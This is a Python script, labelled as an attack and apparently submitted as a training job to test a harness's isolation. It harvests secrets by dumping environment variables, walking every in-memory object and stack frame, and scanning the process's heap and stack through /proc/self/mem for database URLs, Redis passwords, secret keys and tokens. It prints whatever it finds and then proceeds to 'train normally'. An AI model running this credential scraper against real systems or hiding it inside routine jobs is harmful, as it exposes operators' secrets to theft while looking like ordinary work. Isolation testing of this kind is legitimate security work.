# Attack: scan for secrets in everything this process can reach: os.environ, /proc/self/environ, every
# string and bytes object gc.get_objects() finds, every frame's locals (the harness's and the fork
# server's), and all of its heap, stack and anonymous memory (/proc/self/mem), where whatever the fork
# server ever held would still be. Prints anything shaped like a credential. Then train normally.
import gc
import os
import re
import sys

NEEDLES = (b"postgresql://", b"postgresql+", b"redis://:", b"SECRET_KEY=", b"DATABASE_URL=", b"BROKER_URL=",
           b"bpg-secret-")
# a value starts with a token character: this script's own source, JSON-escaped in the job it came in,
# holds `SECRET_KEY=\"` (a quote after a backslash), which is no credential
VALUE = rb"[A-Za-z0-9_\-][^@\s\x00\"'\[\],\\]*"
CREDENTIAL = re.compile(rb"postgresql(\+\w+)?://\w+:" + VALUE + rb"@|redis://:" + VALUE + rb"@|"
                        rb"(SECRET_KEY|DATABASE_URL|BROKER_URL)=" + VALUE + rb"|bpg-secret-[0-9a-f]{32}")
found = set()


def search(data):
    for needle in NEEDLES:  # find() first: a regex over hundreds of MB would take seconds
        at = data.find(needle)
        while at >= 0:
            hit = CREDENTIAL.search(data, max(0, at - 20), at + 200)
            if hit:
                found.add(bytes(hit.group()))
            at = data.find(needle, at + 1)


print("ENV", dict(os.environ), flush=True)
with open("/proc/self/environ", "rb") as f:
    print("PROC ENVIRON", f.read(), flush=True)
for obj in gc.get_objects():
    try:
        if isinstance(obj, dict):
            values = list(obj.values()) + list(obj.keys())
        elif isinstance(obj, (list, tuple)):
            values = list(obj)
        else:
            values = [obj]
        for v in values:
            if isinstance(v, str):
                v = v.encode("utf-8", "replace")
            if isinstance(v, (bytes, bytearray)):
                search(v)
    except Exception:
        pass
frame = sys._getframe()
while frame is not None:
    print("FRAME", frame.f_code.co_filename, frame.f_code.co_name, sorted(frame.f_locals)[:20], flush=True)
    frame = frame.f_back
scanned = 0
with open("/proc/self/maps") as f:
    regions = [line.split() for line in f]
with open("/proc/self/mem", "rb", buffering=0) as mem:
    for region in regions:
        start, end = (int(x, 16) for x in region[0].split("-"))
        # where a secret would live: the heap, the stack and anonymous memory (not the mapped libraries)
        if not region[1].startswith("rw") or (len(region) > 5 and not region[5].startswith("[")):
            continue
        try:
            mem.seek(start)
            data = mem.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        scanned += len(data)
        search(data)
print("SCANNED", scanned, "bytes of memory", flush=True)
for item in sorted(found):
    print("FOUND", item[:300], flush=True)
#@train
